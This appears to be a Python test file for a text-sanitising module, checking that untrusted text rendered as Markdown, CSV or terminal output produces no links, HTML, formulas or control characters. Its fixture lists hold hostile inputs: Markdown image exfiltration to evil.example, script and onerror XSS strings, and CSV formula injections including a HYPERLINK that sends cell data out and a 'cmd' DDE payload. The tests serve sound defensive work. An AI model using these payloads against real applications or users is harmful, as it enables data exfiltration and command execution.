"""Text from outside in each format that it is written to: it has no effect there."""

import csv
import io
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rolegate.client.text import csv_text, inert, markdown, markdown_table, model_markdown, visible

HOSTILE = [
    "![x](http://evil.example/q.png)",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- x",
    "<?php ?>",
    "<a@evil.example>",
    "<1@evil.example>",
    "http://evil.example/q?=secret",
    "https://localhost/x",
    "//localhost/x",
    "www.evil.example",
    "evil.com/x",
    "WWW.evil.example",
    "mail me@evil.com",
    "mailto:me@evil.com",
    "ftp://evil.example",
    "a\n[b]: http://evil.example\n\n[b]",
    "[b]\n\n[b]: http://evil.example",
    "[b][b]",
    "![b]",
    "x\n===",
    "x\n---",
    "# heading",
    "> quote",
    "- item",
    "```\ncode",
    "    code",
    "`` ` ``",
    "a | b | c",
    "\\![x](http://evil.example)",
    "\\\\![x](http://evil.example)",
    "\\<img src=x>",
    "\\\\<img src=x>",
    "`\\`<img src=x>",
    "`a` <b>",
    "&lt;img src=x&gt; &#x202e;abc",
    "\u202eabc\u202c \u2066x\u2069",
    "\x1b[31mred\x1b[0m \x9b31m \x07 \x08",
    "\r\n\r\n<b>x</b>",
    "a\u2028<b>x</b>\x85![y](z)",
    "*bold* _em_ ~~no~~ $x$",
    "[x](<`>) `![y](http://evil)`",
    "<a href=\"`\"> ![x](http://evil) <b c=\"`\">",
    "[^1]\n\n[^1]: http://evil.example",
]  # fmt: skip
PARSERS = [
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").enable("table"),
    MarkdownIt("gfm-like"),
    MarkdownIt("js-default", {"html": True, "linkify": True}),
]
ALPHABET = st.sampled_from(
    [
        *"![](){}<>`\\|&#;:/.@*_~$=-+\"' \n\r\tax1",
        "http",
        "://",
        "www.",
        ".com",
        "\u202e",
        "\x1b",
        "\u2028",
    ]
)
TEXTS = st.one_of(
    st.sampled_from(HOSTILE), st.lists(ALPHABET, max_size=40).map("".join), st.text(max_size=60)
)
FORBIDDEN = {
    "link_open",
    "image",
    "html_inline",
    "html_block",
    "code_inline",
    "fence",
    "code_block",
    "hr",
}
FORBIDDEN |= {
    "em_open",
    "strong_open",
    "s_open",
    "heading_open",
    "blockquote_open",
    "list_item_open",
}


def tokens(parser: MarkdownIt, text: str) -> list[Token]:
    """Return all tokens, including nested ones."""
    blocks = parser.parse(text)
    return [*blocks, *(child for block in blocks for child in block.children or ())]


def shown(parser: MarkdownIt, text: str) -> str:
    """Return the text that a reader sees."""
    return "".join(
        token.content for token in tokens(parser, text) if token.type in ("text", "text_special")
    )


@pytest.mark.parametrize("parser", PARSERS)
@given(text=TEXTS)
def test_text_from_outside_is_text_in_markdown(parser: MarkdownIt, text: str) -> None:
    """It makes no token but text, and is unchanged except for white space."""
    line = f"[1] Title: “{markdown(text)}”"
    assert not FORBIDDEN & {token.type for token in tokens(parser, line)}
    assert shown(parser, line) == f"[1] Title: “{visible(' '.join(text.split()))}”".replace(
        "\0", "\ufffd"
    )


@pytest.mark.parametrize("parser", PARSERS[1:])
@given(rows=st.lists(st.tuples(TEXTS, TEXTS), max_size=4), names=st.tuples(TEXTS, TEXTS))
def test_a_table_in_markdown_keeps_its_cells(
    parser: MarkdownIt, rows: list[tuple[str, str]], names: tuple[str, str]
) -> None:
    """Cells may have any text."""
    table_tokens = tokens(parser, markdown_table(names, rows))
    assert not FORBIDDEN & {token.type for token in table_tokens}
    assert sum(token.type == "tr_open" for token in table_tokens) == 1 + len(rows)
    assert sum(token.type in ("th_open", "td_open") for token in table_tokens) == 2 + 2 * len(rows)


@pytest.mark.parametrize("parser", PARSERS[:2])
@given(text=TEXTS)
def test_links_images_and_html_of_a_model_are_escaped(parser: MarkdownIt, text: str) -> None:
    """A model may have copied them from a document."""
    kinds = {token.type for token in tokens(parser, f"{model_markdown(text)}\n\nSources:\n[1] a")}
    assert not {"link_open", "image", "html_inline", "html_block"} & kinds


def test_other_markdown_of_a_model_is_kept() -> None:
    text = (
        "# A\n\n**Ana** *1200*, `x < 3`:\n\n- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | "
        "2 |\n\n> 1 < 2"
    )
    assert model_markdown(text) == text


@given(text=TEXTS)
def test_terminals_get_no_control_characters(text: str) -> None:
    shown = visible(text)
    assert not [
        character
        for character in shown
        if unicodedata.category(character) == "Cc" and character not in "\t\n"
    ]
    assert not set(shown) & set(
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "@SUM(1,1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@x",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x;  @y",
    "+44-20-7946",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    """An apostrophe is before it, also after semicolons and tabs, which some readers take for
    separators.
    """
    written = inert(text)
    assert written != text
    assert written.replace("'", "") == text.replace("'", "")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(csv_text([[text]]), newline=""), delimiter=delimiter):
            for cell in row:
                assert not unicodedata.normalize(
                    "NFKC", cell.strip(' "\t\r\n\ufeff\u200b\u00a0')
                ).startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    "text",
    [
        "-12.5",
        "+1,200",
        "-1e3",
        "-5 %".replace(" ", ""),
        "+44 20 7946 0958",
        "2024-01-31",
        "−5",
        "a=b",
        "x - y",
        "3:2; 4:1",
        "",
        "–",
    ],
)
def test_texts_that_begin_like_formulas_but_are_numbers_are_kept(text: str) -> None:
    assert inert(text) == text


def test_numbers_that_are_numbers_stay() -> None:
    assert csv_text([["a", -1, 2.5, None], ["-1,5"]]) == 'a,-1,2.5,\r\n"-1,5"\r\n'


@pytest.mark.parametrize(
    "text",
    [
        "\\" * 4000,
        "<" * 4000,
        "[" * 4000 + "](" * 2000,
        "\t" * 4000 + "=",
        ";" * 4000,
        "`" * 4000,
        " " * 4000,
    ],
)
def test_time_is_linear_in_the_text(text: str) -> None:
    def taken(text: str) -> float:
        best = 1e9
        for _ in range(3):
            begun = time.process_time()
            markdown(text), model_markdown(text), csv_text([[text]])
            best = min(best, time.process_time() - begun)
        return best

    assert taken(text * 16) < 80 * taken(text)


def test_a_csv_file_has_no_control_characters() -> None:
    """Printing it has no effect on a terminal."""
    assert csv_text([["\x1b]8;;http://evil\x07click", "a\u202eb", "tab\tand\nline"]]) == (
        '\\u001b]8;;http://evil\\u0007click,a\\u202eb,"tab\tand\nline"\r\n'
    )
